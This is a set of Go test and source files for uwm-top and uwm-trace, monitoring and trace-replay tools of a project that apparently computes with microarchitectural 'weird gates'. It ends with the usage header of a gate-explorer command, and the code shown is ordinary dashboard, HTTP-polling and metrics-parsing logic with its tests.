func TestCLIReadsStdin(t *testing.T) {
	path := filepath.Join(t.TempDir(), "run.jsonl")
	writeGateTrace(t, path)
	stdinFrom(t, path)
	if code := realMain([]string{"-"}); code != 0 {
		t.Errorf("realMain(-) = %d, want 0", code)
	}
}

func TestCLIProfileMode(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "run.jsonl")
	writeGateTrace(t, path)

	for _, format := range []string{"top", "folded"} {
		if code := realMain([]string{"profile", "-format", format, path}); code != 0 {
			t.Errorf("profile -format %s: exit %d, want 0", format, code)
		}
	}

	folded := filepath.Join(dir, "cycles.folded")
	if code := realMain([]string{"profile", "-format", "folded", "-o", folded, path}); code != 0 {
		t.Fatalf("profile -o: nonzero exit %d", code)
	}
	data, err := os.ReadFile(folded)
	if err != nil {
		t.Fatal(err)
	}
	if len(data) == 0 || data[0] == 0 {
		t.Fatalf("folded output empty or binary: %q", data[:min(len(data), 40)])
	}

	pb := filepath.Join(dir, "cycles.pb.gz")
	if code := realMain([]string{"profile", "-format", "pprof", "-o", pb, path}); code != 0 {
		t.Fatalf("profile pprof: nonzero exit %d", code)
	}
	gz, err := os.ReadFile(pb)
	if err != nil {
		t.Fatal(err)
	}
	if len(gz) < 2 || gz[0] != 0x1f || gz[1] != 0x8b {
		t.Fatalf("pprof output is not gzip (magic %x)", gz[:min(len(gz), 2)])
	}

	// Profile mode must accept stdin too.
	stdinFrom(t, path)
	if code := realMain([]string{"profile", "-"}); code != 0 {
		t.Errorf("profile -: exit %d, want 0", code)
	}
}
