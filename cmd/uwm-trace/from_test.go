package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"

	"uwm/internal/health"
)

// traceServer mimics uwm-serve's flight-recorder endpoint: it serves
// the JSONL recording at /v1/jobs/{id}/trace for one known id and 404s
// everything else.
func traceServer(t *testing.T, id string, body []byte) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/v1/jobs/"+id+"/trace" {
			w.WriteHeader(http.StatusNotFound)
			w.Write([]byte(`{"error":"no kept trace for this id"}`))
			return
		}
		if got := r.URL.Query().Get("format"); got != "jsonl" {
			t.Errorf("fetch used format %q, want jsonl", got)
		}
		w.Header().Set("Content-Type", "application/x-ndjson")
		w.Write(body)
	}))
	t.Cleanup(srv.Close)
	return srv
}

func TestCLIFromFlag(t *testing.T) {
	path := filepath.Join(t.TempDir(), "run.jsonl")
	writeGateTrace(t, path)
	body, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	srv := traceServer(t, "job-00000001", body)

	// Analyze mode straight off the wire.
	if code := realMain([]string{"-from", srv.URL, "-job", "job-00000001"}); code != 0 {
		t.Fatalf("-from analyze: exit %d", code)
	}

	// Health mode: the fetched recording replays through the monitor
	// exactly like a local file (a trailing slash on the base URL is
	// tolerated).
	out := stdoutTo(t)
	if code := realMain([]string{"-health", "-format", "json", "-from", srv.URL + "/", "-job", "job-00000001"}); code != 0 {
		t.Fatalf("-from -health: exit %d", code)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var snap health.Snapshot
	if err := json.Unmarshal(data, &snap); err != nil {
		t.Fatalf("health output is not a snapshot: %v\n%s", err, data)
	}
	if snap.Reads == 0 || snap.Threshold == 0 {
		t.Errorf("fetched replay saw no reads: %+v", snap)
	}
}

func TestCLIFromErrors(t *testing.T) {
	srv := traceServer(t, "job-00000001", nil)

	// -from without -job is a usage error.
	if code := realMain([]string{"-from", srv.URL}); code != 2 {
		t.Errorf("-from without -job: exit %d, want 2", code)
	}
	// -from plus a positional file argument is a usage error.
	if code := realMain([]string{"-from", srv.URL, "-job", "x", "extra.jsonl"}); code != 2 {
		t.Errorf("-from with file arg: exit %d, want 2", code)
	}
	// An id the recorder never kept surfaces the server's 404.
	if code := realMain([]string{"-from", srv.URL, "-job", "job-unknown"}); code != 1 {
		t.Errorf("-from unknown id: exit %d, want 1", code)
	}
	// An unreachable server is a runtime error, not a crash.
	srv.Close()
	if code := realMain([]string{"-from", srv.URL, "-job", "job-00000001"}); code != 1 {
		t.Errorf("-from dead server: exit %d, want 1", code)
	}
}
