package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"uwm/internal/health"
	"uwm/internal/trace"
)

// fakeServe builds a test server that answers the three endpoints
// uwm-top polls, with one worker whose monitor digested a real-shaped
// read stream.
func fakeServe(t *testing.T) *httptest.Server {
	t.Helper()
	mon := health.NewMonitor(health.Config{})
	mon.Emit(trace.Event{Kind: trace.KindCalibration, Value: 129, Text: "hit=36 miss=222 n=1"})
	for i := 0; i < 40; i++ {
		delta := uint64(36)
		if i%2 == 0 {
			delta = 222
		}
		mon.Emit(trace.Event{Kind: trace.KindTimedRead, Value: delta,
			Text: fmt.Sprintf("gate=TSX_AND out=%d bit=%d", i%2, i%2)})
	}
	mon.ObserveOutcome("TSX_AND", 4, 4)

	mux := http.NewServeMux()
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"status":"ok","workers":1,"healthy_workers":1,"drifting_workers":0,
			"queue_depth":0,"queue_capacity":64,"inflight":0,"submitted":4}`)
	})
	mux.HandleFunc("/v1/health/detail", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		snap, err := healthJSON(mon)
		if err != nil {
			t.Errorf("marshaling snapshot: %v", err)
		}
		fmt.Fprintf(w, `[{"worker":0,"health":%s}]`, snap)
	})
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, "# TYPE uwm_engine_jobs_total counter\n"+
			"uwm_engine_jobs_total{status=\"done\"} 3\n"+
			"uwm_engine_jobs_total{status=\"failed\"} 1\n"+
			"# TYPE uwm_engine_retries_total counter\n"+
			"uwm_engine_retries_total{type=\"gate\",reason=\"error\"} 2\n"+
			"# TYPE uwm_engine_queue_depth gauge\n"+
			"uwm_engine_queue_depth 0\n")
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

func healthJSON(mon *health.Monitor) (string, error) {
	b, err := json.Marshal(mon.Snapshot())
	return string(b), err
}

func TestOnceSnapshot(t *testing.T) {
	srv := fakeServe(t)
	var out strings.Builder
	if code := realMain([]string{"-addr", srv.URL, "-once"}, &out, nil); code != 0 {
		t.Fatalf("realMain -once = %d, want 0", code)
	}
	got := out.String()
	for _, want := range []string{
		"pool: ok",
		"workers=1 healthy=1",
		"jobs=4",    // 3 done + 1 failed, summed across labels
		"retries=2", // reason labels summed
		"worker 0",
		"TSX_AND",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("snapshot missing %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "\x1b[") {
		t.Error("-once output contains ANSI escapes")
	}
	if strings.Contains(got, "queue_depth=") {
		t.Error("gauge leaked into the counter totals line")
	}
}

func TestUnreachableServer(t *testing.T) {
	var out strings.Builder
	if code := realMain([]string{"-addr", "http://127.0.0.1:1", "-once"}, &out, nil); code != 1 {
		t.Errorf("unreachable server: exit %d, want 1", code)
	}
}

func TestUsageErrors(t *testing.T) {
	var out strings.Builder
	if code := realMain([]string{"-bogus"}, &out, nil); code != 2 {
		t.Errorf("bad flag: exit %d, want 2", code)
	}
	if code := realMain([]string{"stray-arg"}, &out, nil); code != 2 {
		t.Errorf("stray arg: exit %d, want 2", code)
	}
}

func TestSplitSample(t *testing.T) {
	for _, tc := range []struct {
		line, name, value string
		ok                bool
	}{
		{`uwm_engine_jobs_total{status="done"} 3`, "uwm_engine_jobs_total", "3", true},
		{"uwm_engine_queue_depth 0", "uwm_engine_queue_depth", "0", true},
		{"nospace", "", "", false},
	} {
		name, value, ok := splitSample(tc.line)
		if name != tc.name || value != tc.value || ok != tc.ok {
			t.Errorf("splitSample(%q) = (%q, %q, %v), want (%q, %q, %v)",
				tc.line, name, value, ok, tc.name, tc.value, tc.ok)
		}
	}
}
