package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"uwm/internal/health"
	"uwm/internal/trace"
)

// fakeServe builds a test server that answers the three endpoints
// uwm-top polls, with one worker whose monitor digested a real-shaped
// read stream.
func fakeServe(t *testing.T) *httptest.Server {
	t.Helper()
	mon := health.NewMonitor(health.Config{})
	mon.Emit(trace.Event{Kind: trace.KindCalibration, Value: 129, Text: "hit=36 miss=222 n=1"})
	for i := 0; i < 40; i++ {
		delta := uint64(36)
		if i%2 == 0 {
			delta = 222
		}
		mon.Emit(trace.Event{Kind: trace.KindTimedRead, Value: delta,
			Text: fmt.Sprintf("gate=TSX_AND out=%d bit=%d", i%2, i%2)})
	}
	mon.ObserveOutcome("TSX_AND", 4, 4)

	mux := http.NewServeMux()
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"status":"ok","workers":1,"healthy_workers":1,"drifting_workers":0,
			"queue_depth":0,"queue_capacity":64,"inflight":0,"submitted":4}`)
	})
	mux.HandleFunc("/v1/health/detail", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		snap, err := healthJSON(mon)
		if err != nil {
			t.Errorf("marshaling snapshot: %v", err)
		}
		fmt.Fprintf(w, `[{"worker":0,"health":%s}]`, snap)
	})
	mux.HandleFunc("/v1/slo", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"slos":[{"name":"gate-accuracy","kind":"gate_accuracy",
			"objective":0.9,"budget_consumed":0.42,"budget_remaining":0.58}]}`)
	})
	mux.HandleFunc("/v1/alerts", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"alerts":[{"slo":"gate-accuracy","policy":"fast","severity":"page",
			"state":"firing","burn_short":20,"burn_long":15,"burn_rate_threshold":14.4,
			"trace_ids":["job-00000007"]}],"firing":1}`)
	})
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, "# TYPE uwm_engine_jobs_total counter\n"+
			"uwm_engine_jobs_total{status=\"done\"} 3\n"+
			"uwm_engine_jobs_total{status=\"failed\"} 1\n"+
			"# TYPE uwm_engine_retries_total counter\n"+
			"uwm_engine_retries_total{type=\"gate\",reason=\"error\"} 2\n"+
			"# TYPE uwm_engine_queue_depth gauge\n"+
			"uwm_engine_queue_depth 0\n")
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

func healthJSON(mon *health.Monitor) (string, error) {
	b, err := json.Marshal(mon.Snapshot())
	return string(b), err
}

func TestOnceSnapshot(t *testing.T) {
	srv := fakeServe(t)
	var out strings.Builder
	if code := realMain([]string{"-addr", srv.URL, "-once"}, &out, nil); code != 0 {
		t.Fatalf("realMain -once = %d, want 0", code)
	}
	got := out.String()
	for _, want := range []string{
		"pool: ok",
		"workers=1 healthy=1",
		"jobs=4",    // 3 done + 1 failed, summed across labels
		"retries=2", // reason labels summed
		"worker 0",
		"TSX_AND",
		"slo: 1 objective(s), 1 alert(s) firing",
		"budget used   42.0%",
		"ALERT gate-accuracy/fast [page] burn 20.0/15.0 over threshold 14.4",
		"job-00000007",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("snapshot missing %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "\x1b[") {
		t.Error("-once output contains ANSI escapes")
	}
	if strings.Contains(got, "queue_depth=") {
		t.Error("gauge leaked into the counter totals line")
	}
}

// fakeGateway builds a test server shaped like uwm-gateway: no worker
// detail endpoint, but a /v1/cluster backends view.
func fakeGateway(t *testing.T) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"status":"ok","backends":2,"routable_backends":1}`)
	})
	mux.HandleFunc("/v1/cluster", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{
			"backends":[
				{"index":0,"url":"http://127.0.0.1:8081","state":"up","weight":0.84,
				 "ewma_seconds":0.0095,"inflight":2},
				{"index":1,"url":"http://127.0.0.1:8082","state":"down","weight":1,
				 "ewma_seconds":0,"inflight":0,"last_error":"connection refused"}
			],
			"cache":{"entries":3,"hits":6,"misses":2,"collapsed":1,"hit_ratio":0.75},
			"hedge":{"launched":4,"won":1,"lost":3,"suppressed":2,"budget":1.5}}`)
	})
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, "# TYPE uwm_gateway_requests_total counter\nuwm_gateway_requests_total 8\n")
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

// TestGatewaySnapshot points the console at a gateway-shaped server:
// the per-worker panels (no /v1/health/detail there) must give way to
// the backends panel without failing the frame.
func TestGatewaySnapshot(t *testing.T) {
	srv := fakeGateway(t)
	var out strings.Builder
	if code := realMain([]string{"-addr", srv.URL, "-once"}, &out, nil); code != 0 {
		t.Fatalf("realMain -once = %d, want 0:\n%s", code, out.String())
	}
	got := out.String()
	for _, want := range []string{
		"cluster: 1/2 backend(s) routable",
		"cache hit 75% (6 hit / 2 miss / 1 collapsed)",
		"hedges 4 launched 1 won 2 suppressed",
		"[0] http://127.0.0.1:8081",
		"weight=0.84",
		"ewma=   9.5ms",
		"inflight=2",
		"[1] http://127.0.0.1:8082",
		"err=connection refused",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("gateway snapshot missing %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "-- worker") {
		t.Errorf("worker panels rendered against a gateway:\n%s", got)
	}
}

// syncBuf lets the stale-banner test read the console's output while
// realMain's poll loop is still writing it.
type syncBuf struct {
	mu sync.Mutex
	b  strings.Builder
}

func (s *syncBuf) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuf) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

func waitContains(t *testing.T, out *syncBuf, want string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(out.String(), want) {
		if time.Now().After(deadline) {
			t.Fatalf("output never contained %q:\n%s", want, out.String())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestStaleBannerOnFailedPoll kills the polled server mid-session: the
// console must keep running, banner the failure with the last-success
// timestamp, keep the last good frame on screen, and still exit
// cleanly on SIGTERM.
func TestStaleBannerOnFailedPoll(t *testing.T) {
	srv := fakeServe(t)
	sigs := make(chan os.Signal, 1)
	out := &syncBuf{}
	done := make(chan int, 1)
	go func() {
		done <- realMain([]string{"-addr", srv.URL, "-interval", "20ms"}, out, sigs)
	}()
	waitContains(t, out, "pool: ok")

	srv.Close()
	waitContains(t, out, "POLL FAILED")
	waitContains(t, out, "STALE data from last success at")
	// The banner frames still carry the last good snapshot.
	waitContains(t, out, "worker 0")

	sigs <- syscall.SIGTERM
	if code := <-done; code != 0 {
		t.Fatalf("exit code %d after drain, want 0", code)
	}
}

func TestUnreachableServer(t *testing.T) {
	var out strings.Builder
	if code := realMain([]string{"-addr", "http://127.0.0.1:1", "-once"}, &out, nil); code != 1 {
		t.Errorf("unreachable server: exit %d, want 1", code)
	}
}

func TestUsageErrors(t *testing.T) {
	var out strings.Builder
	if code := realMain([]string{"-bogus"}, &out, nil); code != 2 {
		t.Errorf("bad flag: exit %d, want 2", code)
	}
	if code := realMain([]string{"stray-arg"}, &out, nil); code != 2 {
		t.Errorf("stray arg: exit %d, want 2", code)
	}
}

func TestSplitSample(t *testing.T) {
	for _, tc := range []struct {
		line, name, value string
		ok                bool
	}{
		{`uwm_engine_jobs_total{status="done"} 3`, "uwm_engine_jobs_total", "3", true},
		{"uwm_engine_queue_depth 0", "uwm_engine_queue_depth", "0", true},
		{"nospace", "", "", false},
	} {
		name, value, ok := splitSample(tc.line)
		if name != tc.name || value != tc.value || ok != tc.ok {
			t.Errorf("splitSample(%q) = (%q, %q, %v), want (%q, %q, %v)",
				tc.line, name, value, ok, tc.name, tc.value, tc.ok)
		}
	}
}
