// Command uwm-top is a live terminal view of a running uwm-serve: it
// polls the service's /healthz, /v1/health/detail, /v1/slo, /v1/alerts,
// /v1/traces and /metrics endpoints and renders per-worker gate health
// — timing-margin histograms, drift verdicts, calibration counts —
// next to the pool's throughput counters, the SLO error budgets with
// any firing burn-rate alerts, and the flight recorder's most recent
// kept traces.
//
//	uwm-serve -addr :8080 &
//	uwm-top -addr http://localhost:8080             # refresh every 2s
//	uwm-top -addr http://localhost:8080 -once       # one snapshot, no TUI
//
// Pointed at a cluster gateway (uwm-gateway) instead of a single
// uwm-serve, the per-worker panels give way to a backends panel polled
// from GET /v1/cluster: per-backend routing state, weight, latency EWMA
// and in-flight count, next to the result cache's hit ratio and the
// hedge accounting.
//
// The per-worker panels are rendered by the same code the offline
// `uwm-trace -health` mode uses, so an operator watching uwm-top and an
// engineer replaying the recorded trace read identical pictures.
//
// A failed poll does not kill the console: the frame banners the error
// with the time of the last successful poll and keeps rendering that
// stale snapshot while retrying, so the view survives the exact moment
// an operator needs it — the polled server going away.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"uwm/internal/health"
	"uwm/internal/obs"
)

func main() {
	sigs := make(chan os.Signal, 1)
	signal.Notify(sigs, os.Interrupt, syscall.SIGTERM)
	os.Exit(realMain(os.Args[1:], os.Stdout, sigs))
}

// healthzView mirrors the fields of the httpapi healthz body this
// console displays; decoding into a local struct keeps uwm-top a pure
// HTTP client with no engine dependency.
type healthzView struct {
	Status          string `json:"status"`
	Workers         int    `json:"workers"`
	HealthyWorkers  int    `json:"healthy_workers"`
	DriftingWorkers int    `json:"drifting_workers"`
	QueueDepth      int    `json:"queue_depth"`
	QueueCapacity   int    `json:"queue_capacity"`
	Inflight        int    `json:"inflight"`
	Submitted       int64  `json:"submitted"`
}

// workerView mirrors engine.WorkerHealth.
type workerView struct {
	Worker   int             `json:"worker"`
	Snapshot health.Snapshot `json:"health"`
}

// traceView mirrors the fields of a flightrec.Entry this console
// displays.
type traceView struct {
	ID             string  `json:"id"`
	RequestID      string  `json:"request_id"`
	Type           string  `json:"type"`
	Status         string  `json:"status"`
	Reason         string  `json:"reason"`
	Pinned         bool    `json:"pinned"`
	Events         int     `json:"events"`
	LatencySeconds float64 `json:"latency_seconds"`
}

// realMain returns main's exit code so tests can drive the CLI.
func realMain(args []string, out io.Writer, sigs <-chan os.Signal) int {
	fs := flag.NewFlagSet("uwm-top", flag.ContinueOnError)
	addr := fs.String("addr", "http://localhost:8080", "base URL of the uwm-serve instance")
	interval := fs.Duration("interval", 2*time.Second, "refresh interval")
	once := fs.Bool("once", false, "print one snapshot and exit (no screen clearing)")
	width := fs.Int("width", 48, "histogram bar width in characters")
	version := obs.AddVersionFlag(fs)
	fs.Usage = func() {
		fmt.Fprintf(fs.Output(), "usage: uwm-top [-addr url] [-interval d] [-once]\n")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *version {
		obs.PrintVersion(os.Stdout, "uwm-top")
		return 0
	}
	if fs.NArg() != 0 {
		fs.Usage()
		return 2
	}
	base := strings.TrimRight(*addr, "/")

	// A failed poll must not kill the console or wipe the screen: the
	// last good frame stays up under a stale-data banner and polling
	// continues, so a uwm-serve restart heals the view by itself.
	var lastGood string
	var lastSuccess time.Time
	for {
		frame, err := renderFrame(base, *width)
		switch {
		case err != nil && *once:
			fmt.Fprintf(os.Stderr, "uwm-top: %v\n", err)
			return 1
		case err != nil:
			var b strings.Builder
			fmt.Fprintf(&b, "uwm-top  %s  %s  ** POLL FAILED: %v **\n",
				base, time.Now().Format("15:04:05"), err)
			if lastSuccess.IsZero() {
				b.WriteString("no successful poll yet; retrying\n")
			} else {
				fmt.Fprintf(&b, "showing STALE data from last success at %s\n\n",
					lastSuccess.Format("15:04:05"))
				b.WriteString(lastGood)
			}
			fmt.Fprint(out, "\x1b[H\x1b[2J")
			fmt.Fprint(out, b.String())
		default:
			lastGood, lastSuccess = frame, time.Now()
			if !*once {
				fmt.Fprint(out, "\x1b[H\x1b[2J") // home + clear
			}
			fmt.Fprint(out, frame)
		}
		if *once {
			return 0
		}
		select {
		case <-sigs:
			return 0
		case <-time.After(*interval):
		}
	}
}

// renderFrame polls all three endpoints and assembles one screenful.
func renderFrame(base string, width int) (string, error) {
	var hz healthzView
	if err := getJSON(base+"/healthz", &hz); err != nil {
		return "", err
	}
	// Worker detail only exists on a uwm-serve; pointed at a cluster
	// gateway the endpoint 404s and the per-worker panels are skipped
	// (the backends panel takes their place).
	var workers []workerView
	_ = getJSON200(base+"/v1/health/detail", &workers)
	counters, _ := scrapeCounters(base + "/metrics") // metrics are optional garnish

	var b strings.Builder
	fmt.Fprintf(&b, "uwm-top  %s  %s\n", base, time.Now().Format("15:04:05"))
	fmt.Fprintf(&b, "pool: %s  workers=%d healthy=%d drifting=%d  queue=%d/%d inflight=%d submitted=%d\n",
		hz.Status, hz.Workers, hz.HealthyWorkers, hz.DriftingWorkers,
		hz.QueueDepth, hz.QueueCapacity, hz.Inflight, hz.Submitted)
	if len(counters) > 0 {
		b.WriteString("totals:")
		for _, c := range counters {
			name := strings.TrimPrefix(c.name, "uwm_engine_")
			name = strings.TrimPrefix(name, "uwm_flightrec_")
			name = strings.TrimPrefix(name, "uwm_trace_")
			fmt.Fprintf(&b, " %s=%d", strings.TrimSuffix(name, "_total"), c.value)
		}
		b.WriteByte('\n')
	}
	renderCluster(&b, base)
	renderSLO(&b, base)
	renderTraces(&b, base)
	for _, w := range workers {
		fmt.Fprintf(&b, "\n-- worker %d --\n", w.Worker)
		b.WriteString(health.RenderSnapshot(w.Snapshot, width))
	}
	return b.String(), nil
}

// backendView mirrors the fields of a cluster.BackendStatus row this
// console displays.
type backendView struct {
	Index       int     `json:"index"`
	URL         string  `json:"url"`
	State       string  `json:"state"`
	Weight      float64 `json:"weight"`
	EWMASeconds float64 `json:"ewma_seconds"`
	Inflight    int64   `json:"inflight"`
	LastError   string  `json:"last_error"`
}

// clusterView mirrors the GET /v1/cluster payload.
type clusterView struct {
	Backends []backendView `json:"backends"`
	Cache    struct {
		Entries   int     `json:"entries"`
		Hits      uint64  `json:"hits"`
		Misses    uint64  `json:"misses"`
		Collapsed uint64  `json:"collapsed"`
		HitRatio  float64 `json:"hit_ratio"`
	} `json:"cache"`
	Hedge struct {
		Launched   uint64 `json:"launched"`
		Won        uint64 `json:"won"`
		Suppressed uint64 `json:"suppressed"`
	} `json:"hedge"`
}

// renderCluster appends the gateway backends panel: per-backend state,
// routing weight, latency EWMA and in-flight count, plus the result
// cache's hit ratio and the hedge accounting. Pointed at a plain
// uwm-serve (404) the panel is just omitted.
func renderCluster(b *strings.Builder, base string) {
	var cv clusterView
	if err := getJSON200(base+"/v1/cluster", &cv); err != nil || len(cv.Backends) == 0 {
		return
	}
	routable := 0
	for _, be := range cv.Backends {
		if be.State == "up" || be.State == "unknown" {
			routable++
		}
	}
	fmt.Fprintf(b, "cluster: %d/%d backend(s) routable  cache hit %.0f%% (%d hit / %d miss / %d collapsed)  hedges %d launched %d won %d suppressed\n",
		routable, len(cv.Backends), cv.Cache.HitRatio*100,
		cv.Cache.Hits, cv.Cache.Misses, cv.Cache.Collapsed,
		cv.Hedge.Launched, cv.Hedge.Won, cv.Hedge.Suppressed)
	for _, be := range cv.Backends {
		fmt.Fprintf(b, "  [%d] %-28s %-9s weight=%.2f ewma=%6.1fms inflight=%d",
			be.Index, be.URL, be.State, be.Weight, be.EWMASeconds*1e3, be.Inflight)
		if be.LastError != "" {
			fmt.Fprintf(b, "  err=%s", be.LastError)
		}
		b.WriteByte('\n')
	}
}

// sloView mirrors the fields of an slo.SLOStatus this console
// displays.
type sloView struct {
	Name            string  `json:"name"`
	Kind            string  `json:"kind"`
	Objective       float64 `json:"objective"`
	BudgetConsumed  float64 `json:"budget_consumed"`
	BudgetRemaining float64 `json:"budget_remaining"`
}

// alertView mirrors the fields of an slo.Alert this console displays.
type alertView struct {
	SLO       string   `json:"slo"`
	Policy    string   `json:"policy"`
	Severity  string   `json:"severity"`
	State     string   `json:"state"`
	BurnShort float64  `json:"burn_short"`
	BurnLong  float64  `json:"burn_long"`
	Threshold float64  `json:"burn_rate_threshold"`
	TraceIDs  []string `json:"trace_ids"`
}

// renderSLO appends the error-budget and alerts panel. A server
// running without the SLO engine (404) just omits it.
func renderSLO(b *strings.Builder, base string) {
	var sb struct {
		SLOs []sloView `json:"slos"`
	}
	if err := getJSON200(base+"/v1/slo", &sb); err != nil || len(sb.SLOs) == 0 {
		return
	}
	var ab struct {
		Alerts []alertView `json:"alerts"`
		Firing int         `json:"firing"`
	}
	_ = getJSON200(base+"/v1/alerts", &ab)
	fmt.Fprintf(b, "slo: %d objective(s), %d alert(s) firing\n", len(sb.SLOs), ab.Firing)
	for _, s := range sb.SLOs {
		fmt.Fprintf(b, "  %-16s %-13s objective=%-7.4g budget used %6.1f%%\n",
			s.Name, s.Kind, s.Objective, s.BudgetConsumed*100)
	}
	for _, a := range ab.Alerts {
		if a.State != "firing" {
			continue
		}
		fmt.Fprintf(b, "  ALERT %s/%s [%s] burn %.1f/%.1f over threshold %.1f",
			a.SLO, a.Policy, a.Severity, a.BurnShort, a.BurnLong, a.Threshold)
		if len(a.TraceIDs) > 0 {
			fmt.Fprintf(b, "  traces: %s", strings.Join(a.TraceIDs, ","))
		}
		b.WriteByte('\n')
	}
}

// tracePanelRows caps how many kept traces the panel lists; the full
// index stays one `curl /v1/traces` away.
const tracePanelRows = 5

// renderTraces appends the flight-recorder panel. A server running
// without a recorder (404) or an older one without the endpoint just
// omits the panel — the console must keep working against both.
func renderTraces(b *strings.Builder, base string) {
	var entries []traceView
	if err := getJSON(base+"/v1/traces", &entries); err != nil {
		return
	}
	pinned := 0
	for _, e := range entries {
		if e.Pinned {
			pinned++
		}
	}
	fmt.Fprintf(b, "flight recorder: %d kept trace(s), %d pinned error(s)\n", len(entries), pinned)
	for i, e := range entries {
		if i == tracePanelRows {
			fmt.Fprintf(b, "  … %d more\n", len(entries)-tracePanelRows)
			break
		}
		pin := ""
		if e.Pinned {
			pin = " [pinned]"
		}
		fmt.Fprintf(b, "  %-13s %-7s %-8s keep=%-12s %6.1fms %5d ev%s  req=%s\n",
			e.ID, e.Type, e.Status, e.Reason, e.LatencySeconds*1e3, e.Events, pin, e.RequestID)
	}
}

func getJSON(url string, dst any) error {
	resp, err := http.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	// /healthz answers 503 with a well-formed body when degraded or
	// draining — that is exactly what this console wants to show.
	return json.NewDecoder(resp.Body).Decode(dst)
}

// getJSON200 is getJSON for endpoints whose error envelope would
// otherwise decode into an empty success body (the optional panels).
func getJSON200(url string, dst any) error {
	resp, err := http.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("%s: status %d", url, resp.StatusCode)
	}
	return json.NewDecoder(resp.Body).Decode(dst)
}

type counter struct {
	name  string
	value uint64
}

// scrapeCounters parses a Prometheus text exposition and sums the
// engine's job/retry/recalibration counters across label sets.
func scrapeCounters(url string) ([]counter, error) {
	resp, err := http.Get(url)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil {
		return nil, err
	}

	wanted := map[string]bool{
		"uwm_engine_jobs_total":               true,
		"uwm_engine_retries_total":            true,
		"uwm_engine_recalibrations_total":     true,
		"uwm_engine_vote_disagreements_total": true,
		"uwm_trace_dropped_events_total":      true,
		"uwm_flightrec_evictions_total":       true,
	}
	sums := map[string]uint64{}
	for _, line := range strings.Split(string(body), "\n") {
		if line == "" || line[0] == '#' {
			continue
		}
		name, val, ok := splitSample(line)
		if !ok || !wanted[name] {
			continue
		}
		n, err := strconv.ParseUint(val, 10, 64)
		if err != nil {
			continue // float-formatted gauges are not ours
		}
		sums[name] += n
	}
	out := make([]counter, 0, len(sums))
	for name, v := range sums {
		out = append(out, counter{name, v})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].name < out[j].name })
	return out, nil
}

// splitSample splits `name{labels} value` or `name value` into the bare
// metric name and the value text. OpenMetrics exemplars (` # {...} v`
// after the value) are stripped first.
func splitSample(line string) (name, value string, ok bool) {
	if i := strings.Index(line, " # "); i >= 0 {
		line = line[:i]
	}
	sp := strings.LastIndexByte(line, ' ')
	if sp < 0 {
		return "", "", false
	}
	name, value = line[:sp], line[sp+1:]
	if i := strings.IndexByte(name, '{'); i >= 0 {
		name = name[:i]
	}
	return name, value, name != ""
}
