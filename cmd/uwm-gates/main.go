// Command uwm-gates is the gate explorer: it builds any weird gate,
// prints its disassembly (showing there is no architectural boolean
// instruction behind the logic), runs its truth table, and optionally
// sweeps its accuracy under a chosen noise profile.
//
// Usage:
//
//	uwm-gates -list
//	uwm-gates -gate TSX_XOR -truth
//	uwm-gates -op and -disasm             # -op is an alias; names are case-insensitive
//	uwm-gates -gate TSX_AND_OR -sweep 20000 -noise paper
//	uwm-gates -registers                  # demo every Table 1 weird register
//	uwm-gates -expr '(a ^ b) & !c'        # compile an expression to a weird circuit
